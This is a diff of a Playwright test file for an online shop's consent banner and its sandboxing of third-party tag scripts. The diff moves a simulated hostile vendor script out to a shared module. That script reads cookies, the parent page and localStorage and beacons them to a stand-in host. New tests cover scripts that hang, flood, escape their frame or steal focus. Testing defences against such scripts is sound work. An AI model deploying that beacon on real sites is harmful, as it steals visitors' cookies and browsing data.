@@ -1,131 +1,18 @@
-import fs from 'node:fs'
-import { createServer, type Server } from 'node:http'
-import type { AddressInfo } from 'node:net'
-import os from 'node:os'
-import path from 'node:path'
-import type { BrowserContext, Page } from '@playwright/test'
+import type { Page } from '@playwright/test'
 import * as v from 'valibot'
-import { Tags } from '#app/static/serve/tags.ts'
 import { switchTag } from '#commerce/contract/process/tag-switches.ts'
-import { parseTag, type TagName } from '#commerce/contract/tags.ts'
 import { Ga4Event } from '#tests/harness/ga4.ts'
 import { done, send } from './api.ts'
 import { expect, test } from './fixtures.ts'
 import { buyButton, holdBundle } from './pages-before-react.ts'
 import { newPerson, payButton, register, toSummaryAsNew } from './purchase-people.ts'
+import { choose, openVendors, ORIGIN, PRODUCT, withTags } from './tag-vendors.ts'
 
 /**
  * What is optional (storefront §2.8, domain §0.7, §10): what a browser asks for with each choice on each kind of page,
  * and scripts of others that are blocked, slow, throwing or too large. The shop's own frames and switches, with vendors
  * and settings of this test.
  */
-
-const PRODUCT = '/loja/produto/air-fryer-voltena-crosta-5-5-litros-branca'
-/** A vendor's script tells its server what it can reach and what it hears, at once, as a tag manager does. */
-const VENDOR = `(function(){
-var where={};try{where.cookie=document.cookie}catch(e){where.cookie='out of reach'}
-try{where.page=parent.document.title}catch(e){where.page='out of reach'}
-try{where.storage=localStorage.length}catch(e){where.storage='out of reach'}
-function send(what){new Image().src='ORIGIN/heard?'+encodeURIComponent(JSON.stringify(what))}
-send({where:where,sku:shop.sku,device:!!shop.deviceId});
-function take(e){send(e[0]==='consent'?{consent:e[1]+' '+e[2].analytics_storage}:{event:e.event,first:e.ecommerce&&e.ecommerce.items&&e.ecommerce.items[0]&&e.ecommerce.items[0].item_id})}
-dataLayer.forEach(take);var push=dataLayer.push;dataLayer.push=function(){[].forEach.call(arguments,take);return push.apply(this,arguments)}})()`
-
-interface Vendors {
-  heard: { [key: string]: unknown }[]
-  asked: string[]
-  close(): void
-}
-
-/** Behind a public name: a browser lets no page of the network at large ask this machine. */
-const ORIGIN = 'https://vendor.example'
-
-async function openVendors(context: BrowserContext): Promise<Vendors> {
-  const heard: Vendors['heard'] = []
-  const asked: string[] = []
-  const server: Server = createServer((request, response) => {
-    const [name = '', query = ''] = request.url!.slice(1).split('?')
-    asked.push(name)
-    if (name === 'heard') heard.push(JSON.parse(decodeURIComponent(query)))
-    if (name === 'slow.js') return
-    const body =
-      name === 'throws.js'
-        ? 'for(let n=0;n<9;n++)setTimeout(()=>{throw new Error("vendor")});'
-        : name === 'large.js'
-          ? `//${'x'.repeat(600 * 1024)}`
-          : name === 'hangs.js'
-            ? 'const until=Date.now()+4000;while(Date.now()<until);'
-            : VENDOR.replaceAll('ORIGIN', ORIGIN)
-    response.writeHead(name === 'heard' ? 204 : 200, {
-      'content-type': 'text/javascript',
-      'timing-allow-origin': '*',
-      'cache-control': 'no-store',
-    })
-    response.end(name === 'heard' ? undefined : body)
-  })
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-  const door = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
-  await context.route(`${ORIGIN}/**`, async (route) => {
-    const { pathname, search } = new URL(route.request().url())
-    if (pathname === '/blocked.js') return route.abort()
-    await route
-      .fetch({ url: door + pathname + search })
-      .then((response) => route.fulfill({ response }))
-      .catch(() => undefined)
-  })
-  return {
-    heard,
-    asked,
-    close() {
-      server.closeAllConnections()
-      server.close()
-    },
-  }
-}
-
-const FRAMES = /\/_tags(?:[/?]|$)/
-
-/** The shop's own service of frames, with these settings; what it logged. */
-async function withTags(context: BrowserContext, urls: Partial<Record<TagName, string>>) {
-  const said: string[] = []
-  const shopData = fs.mkdtempSync(path.join(os.tmpdir(), 'efacil-tags-e2e-'))
-  const tags = new Tags({
-    tags: Object.fromEntries(Object.entries(urls).map(([name, url]) => [name, parseTag(url)])),
-    budget: { kilobytes: 400, milliseconds: 1_500 },
-    shopData,
-    tell: (sentence) => said.push(sentence),
-  })
-  const server = createServer((request, response) => void tags.answers(request, response, request.url!, '10.0.0.1'))
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-  const door = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
-  const answering: Promise<void>[] = []
-  const answered: string[] = []
-  await context.route(FRAMES, (route) => {
-    const { pathname, search } = new URL(route.request().url())
-    const answer = route
-      .fetch({ url: door + pathname + search })
-      .then(async (response) => {
-        answered.push(`${pathname} ${response.status()}`)
-        await route.fulfill({ response })
-      })
-      // A page that is left waits for no answer.
-      .catch(() => undefined)
-    answering.push(answer)
-    return answer
-  })
-  return {
-    said,
-    answered,
-    shopData,
-    async close() {
-      await context.unroute(FRAMES).catch(() => undefined)
-      // What is being answered is answered first: a test that is over takes its answers with it.
-      await Promise.allSettled(answering)
-      server.close()
-      fs.rmSync(shopData, { recursive: true, force: true })
-    },
-  }
-}
 
 /** Whatever waits for a page at rest has begun. */
 const atRest = (page: Page) =>
@@ -144,13 +31,6 @@ async function expectForms(page: Page): Promise<void> {
 }
 const layer = (page: Page) =>
   page.evaluate(() => (window.dataLayer ?? []).flatMap((entry) => ('event' in entry ? [String(entry.event)] : [])))
-/** Once commerce has heard of it: who writes beside it may take the CSRF pair out of its hands (contract §1). */
-async function choose(page: Page, name: 'Rejeitar não essenciais' | 'Continuar'): Promise<void> {
-  const told = page.waitForResponse((response) => response.url().includes('/privacy/consents/'))
-  await page.getByRole('region', { name: 'Aviso de cookies' }).getByRole('button', { name }).click()
-  await told
-}
-
 test('nothing optional before a choice nor after a refusal; each choice brings what belongs to the page, withdrawing ends it', async ({
   page,
   context,
@@ -301,7 +181,8 @@ test('what is seen, pressed and entered is told, once each; the way back is a vi
     expect(heard('select_item').map(({ first }) => first)).toEqual([sku])
 
     // What the page has to say it has said.
-    await expect.poll(() => events().at(-1)).toBe('view_item')
+    // Sent side by side, they arrive as they come.
+    await expect.poll(() => events().slice(-2).sort()).toEqual(['next.effect', 'view_item'])
     const lists = heard('view_item_list').filter(({ first }) => first === sku).length
     const views = heard('next.effect').length
     await page.goBack()
@@ -410,6 +291,97 @@ test.describe('others’ scripts', () => {
       }
     } finally {
       vendors.close()
+    }
+  })
+
+  test('that never end do not stop the page, and are taken away', async ({ page, context }) => {
+    const vendors = await openVendors(context)
+    await page.goto('/loja/TermsOfUseView')
+    await choose(page, 'Continuar')
+    const tags = await withTags(context, { manager: `${ORIGIN}/never-ends.js`, reviews: `${ORIGIN}/never-ends.js` })
+    try {
+      await page.goto(PRODUCT)
+      const frames = page.locator('iframe[src^="/_tags/"]')
+      await expect.poll(() => vendors.asked).toContain('never-ends.js')
+      await page.getByRole('button', { name: 'Aumentar a quantidade' }).first().click()
+      await expect(page.getByRole('textbox', { name: 'Quantidade' }).first()).toHaveValue('2')
+      await expect
+        .poll(() => [...tags.said].sort().join('\n'))
+        // Frames of one vendor may share a process: one that comes later may find it busy.
+        .toMatch(
+          /manager (?:passou do limite de processador|demorou).*reviews (?:passou do limite de processador|demorou)/s,
+        )
+      await expect(frames).toHaveCount(0)
+    } finally {
+      vendors.close()
+      await tags.close()
+    }
+  })
+
+  test('that flood the page with words, lie or leave their frame are taken away', async ({ page, context }) => {
+    const vendors = await openVendors(context)
+    await page.goto('/loja/TermsOfUseView')
+    await choose(page, 'Continuar')
+    const tags = await withTags(context, {
+      manager: `${ORIGIN}/floods.js`,
+      beacon: `${ORIGIN}/lies.js`,
+      reviews: `${ORIGIN}/leaves.js`,
+    })
+    const told: string[] = []
+    page.on('request', (request) => {
+      if (request.method() === 'POST' && request.url().includes('/_tags/'))
+        told.push(request.url().split('/_tags/')[1]!)
+    })
+    try {
+      await page.goto(PRODUCT)
+      await expect
+        .poll(() => [...told].sort())
+        .toEqual(['beacon?faults', 'beacon?threw', 'manager?words', 'reviews?left'])
+      await expect(page.locator('iframe[src^="/_tags/"]')).toHaveCount(0)
+      expect([...tags.said].sort().join('\n')).toMatch(/manager inundou.*reviews saiu da própria moldura/s)
+    } finally {
+      vendors.close()
+      await tags.close()
+    }
+  })
+
+  test('that take the keyboard from a field are taken away, and the field goes on', async ({ page, context }) => {
+    const vendors = await openVendors(context)
+    await page.goto('/loja/TermsOfUseView')
+    await choose(page, 'Continuar')
+    const tags = await withTags(context, { reviews: `${ORIGIN}/takes-focus.js` })
+    try {
+      await page.goto(PRODUCT)
+      const frame = page.locator('iframe[src="/_tags/reviews"]')
+      await expect(frame).toHaveAttribute('height', /^3\d\d$/)
+      const search = page.getByRole('combobox').first()
+      await search.click()
+      await expect.poll(() => tags.said.join()).toMatch(/reviews tomou o teclado da página/)
+      await expect(frame).toHaveCount(0)
+      await expect(search).toBeFocused()
+    } finally {
+      vendors.close()
+      await tags.close()
+    }
+  })
+
+  test('that pull at the page, open windows or fill the way back do not come to it', async ({ page, context }) => {
+    const vendors = await openVendors(context)
+    await page.goto('/loja/TermsOfUseView')
+    await choose(page, 'Continuar')
+    const tags = await withTags(context, { manager: `${ORIGIN}/fills.js`, reviews: `${ORIGIN}/pulls.js` })
+    const entries = await page.evaluate(() => history.length)
+    try {
+      await page.goto(PRODUCT)
+      await expect.poll(() => vendors.asked).toContain('pulled')
+      expect(await page.evaluate(() => scrollY)).toBe(0)
+      expect(context.pages()).toHaveLength(1)
+      // Who changes the address itself is stopped at its first.
+      await expect.poll(() => tags.said.join()).toMatch(/manager saiu da própria moldura/)
+      expect(await page.evaluate(() => history.length)).toBe(entries + 2)
+    } finally {
+      vendors.close()
+      await tags.close()
     }
   })
 })
